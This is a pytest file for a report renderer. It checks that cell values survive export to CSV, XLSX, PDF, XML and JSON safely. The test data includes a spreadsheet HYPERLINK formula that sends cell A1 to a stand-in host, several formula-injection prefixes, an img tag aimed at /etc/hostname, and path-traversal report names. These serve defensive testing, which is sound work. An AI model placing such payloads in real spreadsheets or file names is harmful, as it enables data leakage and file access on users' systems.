"""Cells that mean mischief or cannot be kept: what each format makes of them (BI-161 to BI-176)."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import json
import re
import resource
import sys
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from lxml import etree
from pypdf import PdfReader

from ledger.store import open_ledger
from reports.custom import custom_report
from reports.custom.catalogue import catalogue
from reports.errors import DeclarationError, RenderError
from reports.model import Document, Field, Format, ReportRequest, Table
from reports.render import excel, render
from reports.render.excel_rows import FIRST_ROW
from tests.faults.child import in_child
from tests.unit.reports.documents import COMPANY, FACTS, document

LINK = '=HYPERLINK("http://x.test?"&A1,"k")'
FORMULAS = (LINK, "+1-555-0100", "@SUM(1)", "\t=1", "-1+2", "＝1", "＋1", "－1", "＠A1")
HARMLESS = ("Alder", "a=1", "'quoted", " =1", "")
MODEL = "rpt_enrollment_census__row"


def census(names: tuple[str, ...], amount: Decimal, **more: object) -> Document:
    fields = catalogue()["enrollment_census"].fields
    columns = {name: [None] * len(names) for name in fields}
    schema: dict[str, Any] = {
        n: pl.String for n, f in fields.items() if f.type in ("text", "identifier")
    }
    money: dict[str, Any] = {n: pl.Decimal(18, 2) for n, f in fields.items() if f.type == "money"}
    frame = pl.DataFrame(columns, schema_overrides=schema | money).with_columns(
        last_name=pl.Series(names, dtype=pl.String),
        employee_amount=pl.lit(amount, dtype=pl.Decimal(18, 2)),
        amount_reason=pl.lit(None, dtype=pl.String),
    )
    columns_shown = ["last_name", "employee_amount"]
    report = custom_report(
        {"dataset": "enrollment_census", "columns": columns_shown, **more}, "mine"
    )
    request = ReportRequest(COMPANY, date(2026, 10, 31), period="2026-10")
    return report.build({MODEL: frame}, request, FACTS)


def cells(made: Document) -> list[list[str]]:
    content = render(made, "csv")[0].content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]


@pytest.mark.parametrize("name", FORMULAS)
def test_bi_161_163_a_text_that_begins_like_a_formula_gets_an_apostrophe(name: str) -> None:
    [[shown, _]] = cells(census((name,), Decimal("1.00")))
    assert shown == "'" + name
    assert shown.removeprefix("'") == name


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_text_is_left_as_it_is(name: str) -> None:
    assert cells(census((name,), Decimal("1.00")))[0][0] == name


def test_bi_162_a_negative_amount_stays_a_number_in_both() -> None:
    made = census(("Alder",), Decimal("-12.50"))
    assert cells(made) == [["Alder", "-12.50"]]
    sheet = openpyxl.load_workbook(io.BytesIO(render(made, "xlsx")[0].content)).worksheets[1]
    assert -12.5 in [cell.value for row in sheet.iter_rows() for cell in row]


def test_bi_161_a_workbook_holds_the_text_and_neither_formula_nor_link() -> None:
    content = render(census((LINK,), Decimal("1.00")), "xlsx")[0].content
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet, parts = book.read("xl/worksheets/sheet2.xml").decode(), book.namelist()
    assert "<f>" not in sheet
    assert "HYPERLINK(" in sheet
    assert not [name for name in parts if "hyperlink" in name.lower() or "external" in name.lower()]
    values = openpyxl.load_workbook(io.BytesIO(content)).worksheets[1]
    kinds = {c.data_type for row in values.iter_rows() for c in row if c.value == LINK}
    assert kinds == {"s"}


def test_bi_164_a_file_for_a_program_is_left_as_it_is_and_says_so() -> None:
    made = census(("=PLAN-A", "Alder"), Decimal("1.00"), csv="machine")
    assert cells(made)[0][0] == "=PLAN-A"
    assert (
        "Formula-like text",
        "1 cell begins like a formula and stands as it is in the CSV file",
    ) in made.notes
    assert dict(census(("Alder",), Decimal("1.00"), csv="machine").notes) == {}


def test_only_people_and_machine_open_a_csv() -> None:
    with pytest.raises(DeclarationError):
        census(("Alder",), Decimal("1.00"), csv="anybody")


def test_bi_175_a_day_before_the_workbooks_calendar_is_a_text_cell() -> None:
    table = Table(
        "days", "Days", (Field("day", "Day", "date"),), pl.DataFrame({"day": [date(1899, 12, 31)]})
    )
    made = document(table)
    sheet = openpyxl.load_workbook(io.BytesIO(render(made, "xlsx")[0].content)).worksheets[1]
    found = [c for row in sheet.iter_rows() for c in row if c.value == "1899-12-31"]
    assert [cell.data_type for cell in found] == ["s"]
    assert (
        json.loads(render(made, "json")[0].content)["tables"][0]["rows"][0]["day"] == "1899-12-31"
    )


def texts(*values: str, title: str = "Words") -> Document:
    field = Field("value", "Value")
    return document(Table("words", title, (field,), pl.DataFrame({"value": list(values)})))


def pages(made: Document) -> str:
    reader = PdfReader(io.BytesIO(render(made, "pdf")[0].content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


@pytest.mark.parametrize(
    "value",
    [
        pytest.param('<img src="/etc/hostname"/> and <b>x', id="BI-165 markup"),
        pytest.param("A & B < C", id="BI-166 signs of markup"),
    ],
)
def test_markup_in_a_cell_is_printed_and_opens_no_file(value: str) -> None:
    opened: list[str] = []
    watching = True

    def hear(event: str, arguments: tuple[object, ...]) -> None:
        if watching and event == "open":
            opened.append(str(arguments[0]))

    sys.addaudithook(hear)
    assert value in pages(texts(value))
    watching = False
    assert not [path for path in opened if path.startswith("/etc")]


@pytest.mark.parametrize("name", ["محمد", "สมชาย", "王芳"])
def test_bi_167_a_name_is_on_the_page_or_the_page_is_refused_by_its_place(name: str) -> None:
    with contextlib.suppress(RenderError):
        assert name in pages(texts("Alder", name))
        return
    with pytest.raises(RenderError, match=r"table words, column value, row 2: .* no glyph for U\+"):
        pages(texts("Alder", name))


def test_bi_168_more_rows_than_a_sheet_holds_go_on_in_the_next() -> None:
    rows = 1_048_576
    frame = pl.DataFrame({"n": pl.int_range(rows, eager=True)})
    parts = list(excel._parts(Table("many", "Many", (Field("n", "N", "integer"),), frame)))
    assert [part.title for part in parts] == ["Many (1 of 2)", "Many (2 of 2)"]
    assert sum(part.frame.height for part in parts) == rows
    assert all(part.frame.height + FIRST_ROW <= rows for part in parts)
    assert parts[1].frame["n"][0] == parts[0].frame["n"][-1] + 1


def test_bi_169_a_text_too_long_for_a_cell_stops_the_workbook_and_nothing_else() -> None:
    made = texts("short", "x" * 32_768)
    with pytest.raises(RenderError, match="table words, column value, row 2"):
        render(made, "xlsx")
    others: tuple[Format, ...] = ("csv", "json", "xml", "pdf")
    assert all(render(made, format)[0].content for format in others)


def test_bi_170_a_sheet_is_named_by_what_a_workbook_allows() -> None:
    title = "A/B:[C]*? " + "long " * 6
    table = texts("x", title=title).tables()[0]
    made = document(*(dataclasses.replace(table, name=f"{title}{n}") for n in range(2)))
    names = openpyxl.load_workbook(io.BytesIO(render(made, "xlsx")[0].content)).sheetnames
    assert len(set(names)) == len(names)
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


@pytest.mark.parametrize("report", ["CON", "../x", "a\nb", "n" * 300, ".hidden", "é"])
def test_bi_171_a_file_is_named_safely_whatever_the_report_is_called(report: str) -> None:
    made = dataclasses.replace(texts("x"), report=report)
    for format in ("csv", "json", "xml"):
        [file] = render(made, format)
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,119}", file.name)
        assert file.name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
        assert ".." not in file.name
    other = dataclasses.replace(made, report=report + "!")
    assert render(other, "csv")[0].name != render(made, "csv")[0].name


def test_bi_172_xml_keeps_every_sign_and_refuses_a_control_character() -> None:
    value = "]]> & < \" 'x'"
    root = etree.fromstring(render(texts(value), "xml")[0].content)
    assert value in {element.text for element in root.iter()}
    with pytest.raises(RenderError, match="row 1: a control character"):
        render(texts("x\u0001y"), "xml")


def test_bi_173_no_rows_are_said_to_be_none() -> None:
    made = document(
        Table("words", "Words", (Field("value", "Value"),), pl.DataFrame({"value": []},
              schema={"value": pl.String}))
    )  # fmt: skip
    assert "No rows" in pages(made)
    assert "2026-10" in pages(made) or "October 2026" in pages(made)


def test_bi_176_the_same_request_is_the_same_bytes_and_one_document(tmp_path: Path) -> None:
    made, ledger = document(), open_ledger(tmp_path)
    for _ in range(2):
        for format in ("pdf", "xlsx", "csv", "xml", "json"):
            for file in render(made, format):
                ledger.documents.store(
                    file.content, name=file.name, media_type=file.media_type, report="people",
                    company_id="c1", format=format, period="2026-10", data_version="v",
                    status="final", at=datetime(2026, 11, 8, tzinfo=UTC),
                )  # fmt: skip
    rows = ledger.documents.rows()
    assert len({row.sha256 for row in rows}) == len(rows) == len({row.name for row in rows})


@pytest.mark.prove
def test_bi_174_a_million_rows_of_csv_stay_within_a_gibibyte() -> None:
    assert in_child(write_a_million) == 0


def write_a_million() -> None:
    """Render a million rows as CSV and end with an error where that took too much memory."""
    rows = 1_000_000
    frame = pl.DataFrame({"value": [f"name {n}" for n in range(rows)], "n": range(rows)})
    fields = (Field("value", "Value"), Field("n", "N", "integer"))
    [file] = render(document(Table("many", "Many", fields, frame)), "csv")
    assert file.content.count(b"\r\n") == rows + 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss < 1024 * 1024
